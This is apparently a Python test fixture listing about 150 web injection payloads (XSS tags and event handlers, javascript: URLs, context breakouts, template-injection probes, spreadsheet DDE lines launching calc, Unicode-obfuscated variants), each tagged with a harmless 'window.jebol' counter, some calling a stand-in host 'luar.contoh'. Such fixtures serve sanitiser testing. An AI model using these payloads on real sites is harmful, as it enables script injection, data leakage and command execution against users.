"""Words that want to be more than words: 150 ways to run script, break out of a place, or be calculated. Our own collection.

`@` stands for the harm, `window.jebol=<number>`: a number that a page shows tells which of them stood there, and a page in which it is
set has run one. Those that are no script (formulas, templates, redirects) carry their number behind them.
"""

from __future__ import annotations

from collections.abc import Iterator

HARM = "window.jebol={}"

_ELEMENTS = r"""
<script>@</script>
<SCRIPT>@</SCRIPT>
<script >@</script >
<script/x>@</script>
<script src=data:text/javascript,@></script>
<script src="//luar.contoh/x.js?@"></script>
<script type=module>@</script>
<scr<script>ipt>@</scr</script>ipt>
<script>@//<!--
<script><!--
@//--></script>
<img src=x onerror=@>
<img src=x onerror="@">
<img src='x' onerror='@'>
<img/src=x/onerror=@>
<IMG SRC=x ONERROR=@>
<img src=x:x onerror=@ //
<img srcset=x onerror=@>
<img src onerror=@>
<image src=x onerror=@>
<img src="x` `<script>@</script>"` `>
<svg onload=@>
<svg/onload=@>
<svg><script>@</script></svg>
<svg><script xlink:href=data:,@></script></svg>
<svg><animate onbegin=@ attributeName=x dur=1s>
<svg><set onbegin=@ attributename=x>
<svg><a xlink:href=javascript:@><text y=20>tekan</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>@</script></svg>#x">
<svg><foreignObject><iframe src=javascript:@></iframe></foreignObject></svg>
<svg><style>@import "//luar.contoh/@";</style></svg>
<svg><title><img src=x onerror=@></title></svg>
<svg><desc><![CDATA[</desc><script>@</script>]]></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=@&gt;">
<math><mtext></p><style><img src=x onerror=@></style>
<math href=javascript:@>tekan</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=@></annotation-xml></math>
<math><maction actiontype=statusline xlink:href=javascript:@>tekan</maction></math>
<iframe src=javascript:@></iframe>
<iframe srcdoc='<script>parent.@</script>'></iframe>
<iframe src="data:text/html,<script>parent.@</script>"></iframe>
<iframe onload=@></iframe>
<frameset onload=@>
<object data=javascript:@></object>
<object data="data:text/html,<script>@</script>"></object>
<embed src=javascript:@>
<embed src="data:image/svg+xml,<svg onload=@>">
<applet code=@></applet>
<body onload=@>
<body onpageshow=@>
<body onhashchange=@>
<body background=javascript:@>
<html onmouseover=@>
<head><base href="//luar.contoh/@">
<base href=javascript:@//>
<meta http-equiv=refresh content="0;url=javascript:@">
<meta http-equiv=refresh content="0;url=//luar.contoh/@">
<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'"><script>@</script>
<link rel=stylesheet href="//luar.contoh/@.css">
<link rel=import href="data:text/html,<script>@</script>">
<link rel=preload as=script href="//luar.contoh/@">
<style>*{background:url(//luar.contoh/@)}</style>
<style onload=@></style>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=@>
<div style="background:url(javascript:@)">
<div style="width:expression(@)">
<details open ontoggle=@>
<details><summary onclick=@>tekan</summary></details>
<dialog open oncancel=@ onclose=@>
<input autofocus onfocus=@>
<input type=image src=x onerror=@>
<input onblur=@ autofocus><input autofocus>
<select autofocus onfocus=@></select>
<textarea autofocus onfocus=@></textarea>
<keygen autofocus onfocus=@>
<button formaction=javascript:@>tekan</button>
<button onclick=@>tekan</button>
<form action=javascript:@><button>tekan</button></form>
<form id=f></form><button form=f formaction=javascript:@>tekan</button>
<isindex action=javascript:@ type=submit>
<video src=x onerror=@></video>
<video><source onerror=@></video>
<video poster=javascript:@></video>
<audio src=x onerror=@></audio>
<audio src onloadstart=@></audio>
<track default src=x onerror=@>
<marquee onstart=@>jalan</marquee>
<bgsound src=javascript:@>
<table background=javascript:@><td>
<x onclick=@>tekan</x>
<x contenteditable onblur=@>tekan</x>
<x onpointerenter=@>arahkan</x>
<b onmouseover=@>arahkan</b>
<a href=javascript:@>tekan</a>
<a href=" javascript:@">tekan</a>
<a href="java&#115;cript:@">tekan</a>
<a href="java&Tab;script:@">tekan</a>
<a href="&#x6A;avascript:@">tekan</a>
<a href=JaVaScRiPt:@>tekan</a>
<a href=vbscript:@>tekan</a>
<a href="data:text/html,<script>@</script>">tekan</a>
<a href=x ping="//luar.contoh/@">tekan</a>
<a target=_blank href="//luar.contoh/@">tekan</a>
<noscript><p title="</noscript><img src=x onerror=@>">
<template><script>@</script></template>
<slot onslotchange=@></slot>
<portal src=javascript:@></portal>
<xmp><p title="</xmp><svg/onload=@>">
<plaintext onmouseover=@>
<listing>&ltimg onerror=@ src=x&gt</listing>
<menu id=x contextmenu=x onshow=@>
<object type=text/x-scriptlet data="//luar.contoh/@"></object>
<div popover id=p onbeforetoggle=@></div><button popovertarget=p>tekan</button>
<p onscrollsnapchange=@>
""".strip().replace("<!--\n@", "<!--␤@")

_BREAKOUTS = r"""
"><script>@</script>
'><script>@</script>
" onfocus=@ autofocus x="
' onmouseover=@ x='
" onmouseover="@
` onerror=@ `
--><script>@</script>
]]><script>@</script>
</title><script>@</script>
</textarea><script>@</script>
</option></select><img src=x onerror=@>
</style><script>@</script>
</script><script>@</script>
</svg><script>@</script>
'-@-'
";@;//
';@;//
\";@;//
javascript:@
javascript://%0a@
data:text/html,<script>@</script>
&lt;script&gt;@&lt;/script&gt;
&#60;script&#62;@&#60;/script&#62;
%3Cscript%3E@%3C/script%3E
\u003cscript\u003e@\u003c/script\u003e
\x3cscript\x3e@\x3c/script\x3e
+ADw-script+AD4-@+ADw-/script+AD4-
{{constructor.constructor('@')()}}
${@}
""".strip()

_OTHER = (
    "{{ 191 * 7 }} {% for x in [1] %}{{ self.__init__.__globals__ }}{% endfor %} @",
    "#{191*7} <%= 191*7 %> [[191*7]] *{191*7} @",
    "[tekan](javascript:@)",
    "![x](x\"onerror=\"@)",
    "=HYPERLINK(\"//luar.contoh/?@\")",
    "@SUM(1+1)*cmd|' /C calc'!A0 @",
    "+1+cmd|' /C calc'!A0 @",
    "-2+3+cmd|' /C calc'!A0 @",
    "|calc @",
    "\u202e<script>@</script>",
    "<script\u200b>@</script>",
    "\uff1cscript\uff1e@\uff1c/script\uff1e",
    "<img\u00a0src=x\u00a0onerror=@>",
    "\u2028<script>@</script>\u2029",
    "e\u0301<svg/onload=@>\U0001f4a3",
)  # fmt: skip


def _written(number: int, template: str) -> str:
    """The payload with its number; a leading `@` of a formula is one."""
    harm = HARM.format(number)
    if template.startswith("@SUM"):
        return template[:1] + template[1:].replace("@", harm)
    return (
        template.replace("␤", "\n")
        .replace("@import", "©import")
        .replace("@keyframes", "©keyframes")
        .replace("@", harm)
        .replace("©", "@")
    )


HOSTILE: tuple[str, ...] = tuple(
    _written(number, template)
    for number, template in enumerate([*_ELEMENTS.splitlines(), *_BREAKOUTS.splitlines(), *_OTHER], start=1)
)


def lumps(longest: int, label: str = "") -> Iterator[str]:
    """All of them as few texts of at most that many characters, in their order; one that is longer itself stands alone."""
    text = label
    for one in HOSTILE:
        if len(text) > len(label) and len(text) + len(one) + 1 > longest:
            yield text
            text = label
        text = f"{text} {one}" if text else one
    yield text
